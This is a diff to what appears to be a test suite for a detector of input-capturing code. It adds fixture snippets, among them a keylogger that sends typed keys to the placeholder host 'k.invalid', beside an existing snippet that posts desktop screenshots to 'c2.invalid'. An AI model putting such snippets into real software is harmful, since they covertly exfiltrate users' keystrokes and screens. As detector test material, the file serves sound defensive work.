@@ -4,6 +4,18 @@ import { capturesInput } from './captures-input.ts';
 examine(capturesInput, {
   speaks: [
     {
+      when: 'a key leads the page to where its links lead',
+      files: { 'index.js': `document.addEventListener('keydown', event => { if (event.key) window.location.href = '/' + event.key; });` },
+      weight: 'weak',
+    },
+    {
+      when: 'what was typed is carried along when the page is led to a host of its own',
+      files: {
+        'index.js': `let typed = ''; document.addEventListener('keydown', event => { typed += event.key; if (typed.length > 40) window.location.href = 'https://k.invalid/?' + typed; });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'pictures of the screen are sent',
       files: { 'index.js': `require('screenshot-desktop')().then(i => require('axios').post('https://c2.invalid', i))` },
       weight: 'proof',
